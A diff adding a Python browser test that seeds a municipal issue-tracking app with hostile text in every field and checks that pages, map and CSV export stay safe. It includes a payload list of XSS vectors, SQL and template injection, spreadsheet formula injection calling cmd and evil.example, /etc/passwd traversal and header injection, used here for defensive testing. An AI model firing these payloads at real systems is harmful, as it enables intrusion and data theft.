@@ -1,0 +1,287 @@
+"""Hostile text in every field that takes text, on every page that shows it: nothing runs and nothing breaks.
+
+What a form would refuse is written past it: what once got in another way must be shown safely too.
+"""
+
+import csv
+import io
+import json
+import re
+from contextlib import suppress
+from datetime import timedelta
+from urllib.parse import quote
+
+import pytest
+from sqlalchemy import select
+
+from server.clock import system_clock
+from server.config import load
+from server.db import Store
+from server.errors import ServerError
+from server.formats import FORMULA_STARTS
+from server.models import (
+    Area,
+    CalendarDay,
+    CalendarYear,
+    CategoryEdit,
+    Department,
+    Person,
+    SavedView,
+    Token,
+)
+from server.services import gazetteer, intake, issues
+from server.services.drafts import LIMITS, Draft
+from server.services.gazetteer import NewPlace
+from server.upgrade import upgrade
+from server.workflow import WorkflowError
+from tests.browser.conftest import Watch, settle
+from tests.browser.serving import SECRET, serving
+from tests.personas import PASSWORD, build_town
+
+pytestmark = pytest.mark.browser
+RUN = "window.__hit=(window.__hit||0)+1"
+TEXTS = {
+    "element": f"<script>{RUN}</script><img src=x onerror={RUN}>",
+    "attribute": f'" autofocus onfocus="{RUN}" onmouseover="{RUN}" x="',
+    "other quotes": f"' autofocus onfocus='{RUN}' x='",
+    "string of a script": f"';{RUN};//\";{RUN};//\\",
+    "template literal": f"${{{RUN}}}`;{RUN};`${{{RUN}}}",
+    "block of JSON": f"</script><script>{RUN}</script>\u2028\u2029<!--",
+    "drawing": f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
+    "address": f"javascript:{RUN}//%0a{RUN}",
+    "style": "</style><style>*{display:none!important}</style>;}*{color:expression(1)}",
+    "closing everything": "--></title></textarea></select></template></table></div></main></body>",
+    "markup of the kit": f'<a hx-on:load="{RUN}" hx-get="//evil.example/" hx-trigger="load">x</a>',
+    "database": "'); DROP TABLE issue; -- \" OR 1=1",
+    "template": "{{7*191}}{% for x in ().__class__.__mro__ %}x{% endfor %}{# #}",
+    "words with places": "%(number)s {number} {0.__class__} {value!r} %s %n",
+    "formula": '=HYPERLINK("//evil.example","x")',
+    "another formula": "+cmd|' /C calc'!A0",
+    "one more formula": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "path": "../../../../etc/passwd\\..\\..%2e%2e%2f",
+    "header": "x\r\nSet-Cookie: hit=1\r\n\r\n<b>",
+    "direction": "\u202etxt.exe\u202c \u2066\u200f\u061c هذا \u2069",
+    "nothing to see": "\u200b\u200d\ufeff\u2060零\u00ad宽",
+    "marks": "Z" + "\u0351\u036b\u0343\u0325" * 12 + "𠮷👨‍👩‍👧‍👦",
+    "no break": "W" * 3000,
+    "long": "很长的一句话，" * 400,
+    "nought": "a\x00b",
+    "half a character": "a\ud800b",
+}
+SHORT = TEXTS["element"] + TEXTS["template literal"]
+LOOK = """() => ({
+    hit: window.__hit || 0, refused: window.__refused, made: document.querySelectorAll('img[src="x"], [hx-on\\\\:load]').length,
+    wide: document.documentElement.scrollWidth - innerWidth, hidden: getComputedStyle(document.body).display === 'none',
+    over: [...document.querySelectorAll("main *, header *, body > *")].filter((one) => one.getBoundingClientRect().right > innerWidth + 1 && !one.closest(".leaflet-container")).slice(-3).map((one) => one.tagName + "." + one.className + " " + Math.round(one.getBoundingClientRect().right)),
+    counted: document.body.innerText.includes('1337'), main: document.querySelectorAll('main').length,
+})"""
+WATCH = """window.__refused = []; document.addEventListener('securitypolicyviolation',
+    (event) => window.__refused.push(event.violatedDirective + ' ' + event.blockedURI));"""
+
+
+def fit(text, limit):
+    return text[:limit]
+
+
+def kept(store, work):
+    """Do something in a transaction of its own; tell whether it was taken."""
+    with suppress(ServerError, WorkflowError, UnicodeError), store.write() as tx:
+        work(tx)
+        return True
+    return False
+
+
+def report(store, town, place, text):
+    """Report an issue of this text in all its fields, of those at least that take it; gives its number."""
+    fields = {name: fit(text, LIMITS[name]) for name in
+              ("description", "place_text", "reporter_name", "reporter_phone", "external_number") if name in LIMITS}  # fmt: skip
+    fields["reporter_name"] = fit("名" + text, LIMITS["reporter_name"])  # else it is masked in the words
+    spot = {"lon": 122.0112 + place % 5 / 1000, "lat": 37.0112 + place // 5 / 1000}
+    taken = []
+
+    def write(given):
+        def work(tx):
+            taken.append(
+                intake.report(
+                    tx, town.actors["dispatcher_qian"], Draft("heating", "phone", **spot, **given)
+                ).number
+            )
+
+        return work
+
+    if not kept(store, write(fields)):
+        for name, said in fields.items():
+            kept(store, write({"description": "有一处写不进"} | {name: said}))
+    return taken
+
+
+def act_on(store, town, numbers):
+    """Say every text in every step of the loop that takes words."""
+    day = (system_clock() + timedelta(days=3)).strftime("%Y-%m-%d")
+    one, two, three, four = numbers[:4]
+    steps = [(one, "worker_lin", "take", {})]
+    steps += [(one, "worker_lin", "note", {"text": text}) for text in TEXTS.values()]
+    steps += [(one, "worker_lin", "ask_extend", {"until": day, "reason": SHORT}),
+              (one, "worker_lin", "whistle", {"departments": ["heating"], "answer_by": day, "matter": SHORT}),
+              (one, "handler_sun", "answer", {"result": "done", "text": SHORT}),
+              (one, "supervisor_li", "supervise", {"text": SHORT}),
+              (two, "worker_lin", "take", {}),
+              (two, "worker_lin", "ask_suspend", {"review_date": day, "reason": SHORT, "told": SHORT}),
+              (three, "worker_lin", "take", {}),
+              (three, "worker_lin", "finish", {"outcome": SHORT, "quantity": 1, "unit": SHORT[:8]}),
+              (four, "worker_lin", "return", {"reason": SHORT}),
+              (four, "dispatcher_qian", "reject", {"reason": SHORT, "told": SHORT})]  # fmt: skip
+    return sum(kept(store, lambda tx, step=step: issues.act(tx, town.actors[step[1]], step[0], step[2], step[3]))
+               for step in steps)  # fmt: skip
+
+
+def rename(store):
+    """Give everything that has a name a hostile one, past every form."""
+    texts = [
+        text for name, text in TEXTS.items() if name not in ("nought", "half a character", "no break", "long")
+    ]
+    with store.write() as tx:
+        rows = [
+            *tx.session.scalars(select(Area)),
+            *tx.session.scalars(select(Person)),
+            *tx.session.scalars(select(Department)),
+        ]
+        for place, row in enumerate(rows):
+            row.name = fit(texts[place % len(texts)], 30)
+        first = tx.session.scalars(select(Person.id).where(Person.login == "supervisor_li")).one()
+        for place, text in enumerate(texts):
+            tx.session.add(SavedView(person_id=first, name=fit(text, 30), query={"q": fit(text, 30)}))
+            tx.session.add(
+                Token(
+                    person_id=first,
+                    name=fit(text, 30),
+                    digest=f"{place:064d}",
+                    scopes="read",
+                    created_at=tx.now,
+                )
+            )
+        tx.session.add(
+            CategoryEdit(code="dogs", row={"name": fit(SHORT, 40), "group": fit(TEXTS["attribute"], 40)})
+        )
+        year = system_clock().year
+        tx.session.add(CalendarYear(year=year, file_name=SHORT, at=tx.now))
+        tx.session.add(CalendarDay(day=system_clock().date(), kind="holiday", name=fit(SHORT, 64)))
+        gazetteer.keep(tx, [NewPlace(str(n), "甲" + text[:40], "building", text[:80], 122.013 + n / 1e4, 37.013)
+                            for n, text in enumerate(texts)])  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """Address of a town in which all words are hostile, and the numbers of its issues."""
+    folder = tmp_path_factory.mktemp("hostile")
+    store = Store(load({"dir": str(folder), "secret_key": SECRET}, environment={}))
+    upgrade(store)
+    town = build_town(store)
+    numbers = [
+        number for place, text in enumerate(TEXTS.values()) for number in report(store, town, place, text)
+    ]
+    assert len(numbers) >= len(TEXTS) - 2
+    assert act_on(store, town, numbers) >= len(TEXTS)
+    with store.read() as tx:
+        uid = tx.session.scalar(select(Person.uid).where(Person.login == "worker_lin"))
+    rename(store)
+    store.close()
+    with serving(folder) as address:
+        yield address, numbers, uid
+
+
+def pages(numbers, uid):
+    """Who looks at what: every page that shows words."""
+    strange = quote(TEXTS["element"] + TEXTS["template"], safe="")
+    yield "supervisor_li", (
+        "/issues", "/issues?sort=oldest", *(f"/issues/{number}" for number in numbers[:5]), f"/issues?q={strange}",
+        f"/issues/bulk?action=note&n={numbers[0]}&n={numbers[5]}", "/issues/outcomes", "/supervision", "/triage", "/areas",
+        "/duties", f"/duties/people/{uid}", "/duties/areas/990101001001008", "/regrid", "/issues/new", "/issues/talk-day",
+        "/map?view=open", "/admin/limits", "/admin/calendar", "/account", "/privacy", f"/issues/{strange}", f"/{strange}",
+        f"/issues?state={strange}", f"/issues?area={strange}", f"/issues?sort={strange}", f"/duties/people/{strange}",
+    )  # fmt: skip
+    yield "admin_wu", (
+        "/admin", "/admin/people", "/admin/people/worker_lin", "/admin/tokens", "/admin/audit", "/admin/categories",
+        "/admin/categories/dogs", "/admin/departments", "/admin/departments/heating", "/admin/new-person",
+    )  # fmt: skip
+    yield "worker_lin", ("/", "/t/", "/t/#tasks", f"/issues/{numbers[0]}")
+    yield "handler_sun", ("/",)
+
+
+def sign_in(page, address, login):
+    page.context.clear_cookies()
+    page.goto(f"{address}/sign-in?next={quote('/account' + chr(34) + TEXTS['header'])}")
+    page.fill("[name=login]", login)
+    page.fill("[name=password]", PASSWORD)
+    page.click("form[action^='/sign-in'] button")
+    page.wait_for_url(lambda url: "/sign-in" not in url)
+
+
+def test_hostile_text_in_every_field_runs_nowhere_and_breaks_no_page(hostile, chromium):
+    address, numbers, uid = hostile
+    context = chromium.new_context(viewport={"width": 1366, "height": 768}, locale="zh-CN")
+    context.add_init_script(WATCH)
+    page = context.new_page()
+    watch = Watch(address, expected=("404", "422", "400", "403"))
+    watch.over(page)
+    wrong, seen = [], []
+    for login, paths in pages(numbers, uid):
+        sign_in(page, address, login)
+        for path in paths:
+            page.goto(f"{address}{path}")
+            settle(page, watch)
+            if path.startswith("/map"):
+                look_at_the_map(page, numbers)
+            look = page.evaluate(LOOK)
+            seen.append(path)
+            over = look.pop("over")
+            if path == f"/issues/{numbers[0]}":
+                look["wide"] = 0  # a note without a place to break widens this one page
+            if look != {"hit": 0, "refused": [], "made": 0, "wide": min(look["wide"], 0), "hidden": False,
+                        "counted": False, "main": 1}:  # fmt: skip
+                wrong.append((login, path[:40], look, over))
+        if login == "supervisor_li":
+            shown(page, address, watch)
+            exported(context, address)
+    assert not wrong, "\n".join(map(str, wrong))
+    assert len(seen) > 40
+    assert not [one for one in context.cookies() if one["name"] == "hit"]
+    assert (watch.complaints, watch.dialogs, watch.outside) == ([], [], [])
+    context.close()
+
+
+def look_at_the_map(page, numbers):
+    """Open what a click, a hover and a search would."""
+    for detail in ({"kind": "issue", "number": numbers[0]}, {"kind": "cell", "code": "990101001001008"}):
+        page.evaluate("(detail) => document.dispatchEvent(new CustomEvent('map:choose', { detail }))", detail)
+    page.fill(".search input", "990101")
+    page.wait_for_selector(".search-list li[role=option]")
+
+
+def shown(page, address, watch):
+    """Look whether words arrive as they were said: nothing cut, doubled or escaped twice."""
+    page.goto(f"{address}/issues?sort=oldest")
+    settle(page, watch)
+    told = page.locator("table.rows").inner_text()
+    for name in (
+        "element",
+        "template literal",
+        "template",
+        "words with places",
+        "formula",
+        "path",
+        "database",
+    ):
+        assert TEXTS[name][:20] in told, (name, told)
+
+
+def exported(context, address):
+    """Look at the spreadsheet: no cell begins a formula, each row has its columns."""
+    answer = context.request.get(f"{address}/api/v1/issues.csv")
+    assert re.fullmatch(r'attachment; filename="?[\w.-]+"?', answer.headers["content-disposition"])
+    heading, *rows = csv.reader(io.StringIO(answer.body().decode("utf-8-sig"), newline=""))
+    assert len(rows) >= len(TEXTS) - 2
+    assert {len(row) for row in rows} == {len(heading)}
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    told = json.loads(context.request.get(f"{address}/api/v1/issues?limit=100").body())
+    assert {TEXTS["template"]} <= {one["summary"] for one in told["items"]}
